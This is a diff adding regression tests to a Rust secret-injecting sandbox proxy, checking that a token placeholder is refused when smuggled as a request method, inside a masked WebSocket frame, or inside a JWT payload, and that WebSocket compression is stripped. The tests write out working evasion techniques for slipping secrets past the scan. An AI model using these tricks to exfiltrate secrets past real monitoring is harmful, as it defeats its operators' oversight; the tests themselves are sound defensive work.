@@ -1688,12 +1688,16 @@ fn placeholders_over_http2_are_refused_however_spelled() {
 /// What a client sends on an upgraded connection to a host the secret
 /// may not go to is read as requests are: its placeholder upper-cased ends
 /// the connection before the upstream gets it, as the exact spelling does.
+/// No WebSocket extension is offered there (compression would hide a
+/// placeholder from the scan): the upgrade goes, without the offer.
 #[test]
 fn placeholders_on_upgraded_connections_are_found_however_spelled() {
     each_mode_injecting(|mode, inj, _, other| {
+        let offer = "Sec-WebSocket-Extensions: permessage-deflate\r\n";
         let upgrades = Upgrades::default()
             .with("exact", other.port, "/ws", Some("x=$TEST_TOKEN"), "")
-            .with("upper", other.port, "/ws", Some("x=$UPPER_TEST_TOKEN"), "");
+            .with("upper", other.port, "/ws", Some("x=$UPPER_TEST_TOKEN"), "")
+            .with("offered", other.port, "/ws", None, offer);
         let out = inj
             .sandbox()
             .flag("--allow-domain", format!("127.0.0.1:{}", other.port))
@@ -1706,6 +1710,15 @@ fn placeholders_on_upgraded_connections_are_found_however_spelled() {
             let echo = line(&out, &format!("{label}-echo"));
             assert_eq!(echo, "\"\"", "{mode:?} {label}: {out:#?}");
         }
+        assert_eq!(line(&out, "offered-status"), "101", "{mode:?}: {out:#?}");
+        assert!(
+            !other
+                .seen()
+                .to_ascii_lowercase()
+                .contains("sec-websocket-extensions"),
+            "{mode:?}: {}",
+            other.seen()
+        );
         let text = inj.audit();
         let found = text.matches("sent on an upgraded connection").count();
         assert_eq!(found, 2, "{mode:?}: {text}");
@@ -1950,5 +1963,121 @@ fn compression_hidden_in_a_second_header_or_a_transfer_coding_is_refused() {
         }
         assert!(!out.stdout.contains(&secret), "{mode:?}: {out:#?}");
         assert!(log.contains("Transfer-Encoding"), "{mode:?}: {log}");
+    });
+}
+
+/// Red-team (rt-scan): the request method is part of what a request
+/// carries to its host, yet the inspected path's scan reads the target and
+/// header fields only. A placeholder sent as an extension method (any
+/// case), over HTTP/1.1 or HTTP/2, reaches a host the secret may not go to;
+/// it must be refused (403) as it is in the target. Plain HTTP already
+/// refuses it (its raw head is scanned).
+#[test]
+fn a_placeholder_as_the_request_method_is_refused() {
+    each_mode_injecting(|mode, inj, _, other| {
+        let script = format!(
+            "UPPER=$(printf %s \"$TEST_TOKEN\" | tr a-z A-Z)\n\
+             echo '== h1'\n{}\n\
+             echo '== h1-upper'\n{}\n\
+             echo '== h2'\n{}\n",
+            curl(other.port, "/method-h1", "--http1.1 -X \"$TEST_TOKEN\""),
+            curl(other.port, "/method-h1-upper", "--http1.1 -X \"$UPPER\""),
+            curl(other.port, "/method-h2", "--http2 -X \"$TEST_TOKEN\""),
+        );
+        let out = inj
+            .sandbox()
+            .flag("--allow-domain", format!("127.0.0.1:{}", other.port))
+            .sh(&script);
+        for name in ["h1", "h1-upper", "h2"] {
+            let answer = part(&out, name);
+            assert!(answer.contains(" 403"), "{mode:?} {name}: {out:#?}");
+        }
+        assert!(
+            !other.seen().contains("/method-"),
+            "{mode:?}: {}",
+            other.seen()
+        );
+    });
+}
+
+/// Red-team (rt-scan): every WebSocket client masks its frames with a
+/// random key (RFC 6455 5.3), and the scan of an upgraded connection reads
+/// the raw bytes, so a placeholder in any real client's message is never
+/// seen: it reaches a host the secret may not go to. A masked frame that
+/// carries one must end the connection as a raw one does.
+#[test]
+fn a_placeholder_in_a_masked_websocket_frame_ends_the_connection() {
+    let code = r#"
+import os, socket, ssl, sys
+port = int(sys.argv[1])
+s = socket.create_connection(('127.0.0.1', 3128), timeout=10)
+s.sendall(b'CONNECT 127.0.0.1:%d HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n' % (port, port))
+head = b''
+while b'\r\n\r\n' not in head:
+    head += s.recv(1)
+t = ssl.create_default_context().wrap_socket(s, server_hostname='127.0.0.1')
+t.sendall(b'GET /ws HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nUpgrade: websocket\r\n'
+          b'Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n'
+          b'Sec-WebSocket-Version: 13\r\n\r\n' % port)
+head = b''
+while b'\r\n\r\n' not in head:
+    head += t.recv(1)
+print('status', head.split(b' ')[1].decode())
+payload = b'{"token":"' + os.environ['TEST_TOKEN'].encode() + b'"}'
+key = bytes([0x5a, 0xa5, 0x3c, 0xc3])
+frame = bytes([0x81, 0x80 | len(payload)]) + key
+frame += bytes(b ^ key[i % 4] for i, b in enumerate(payload))
+t.sendall(frame)
+t.settimeout(3)
+echo = b''
+try:
+    while len(echo) < len(frame):
+        d = t.recv(4096)
+        if not d:
+            break
+        echo += d
+except (OSError, ssl.SSLError):
+    pass
+print('echoed', len(echo))
+"#;
+    each_mode_injecting(|mode, inj, _, other| {
+        let out = inj
+            .sandbox()
+            .flag("--allow-domain", format!("127.0.0.1:{}", other.port))
+            .py_args(code, &[other.port.to_string()]);
+        out.ok();
+        assert!(out.stdout.contains("status 101"), "{mode:?}: {out:#?}");
+        // The upstream echoes every byte it gets: nothing may come.
+        assert!(out.stdout.contains("echoed 0"), "{mode:?}: {out:#?}");
+        let text = inj.audit();
+        assert!(
+            text.contains("sent on an upgraded connection"),
+            "{mode:?}: {text}"
+        );
+    });
+}
+
+/// Red-team (rt-scan): a bearer token is most often a JWT
+/// (`header.payload.signature`, each part base64url on its own); the
+/// lenient base64 read skips the dots and so decodes the payload out of
+/// alignment whenever the header's length is not a multiple of 4. A
+/// placeholder in a JWT's payload then reaches a host it may not go to.
+#[test]
+fn a_placeholder_inside_a_jwt_bearer_token_is_refused() {
+    each_mode_injecting(|mode, inj, _, other| {
+        // `{"alg":"none"}` is 19 base64url characters: the payload after
+        // it is read 6 bits off.
+        let script = format!(
+            "B64U() {{ base64 -w0 | tr '+/' '-_' | tr -d '='; }}\n\
+             JWT=\"$(printf %s '{{\"alg\":\"none\"}}' | B64U).$(printf '{{\"sub\":\"%s\"}}' \"$TEST_TOKEN\" | B64U).\"\n\
+             echo '== jwt'\n{}\n",
+            curl(other.port, "/jwt", "-H \"Authorization: Bearer $JWT\""),
+        );
+        let out = inj
+            .sandbox()
+            .flag("--allow-domain", format!("127.0.0.1:{}", other.port))
+            .sh(&script);
+        assert!(part(&out, "jwt").contains(" 403"), "{mode:?}: {out:#?}");
+        assert!(!other.seen().contains("/jwt"), "{mode:?}: {}", other.seen());
     });
 }
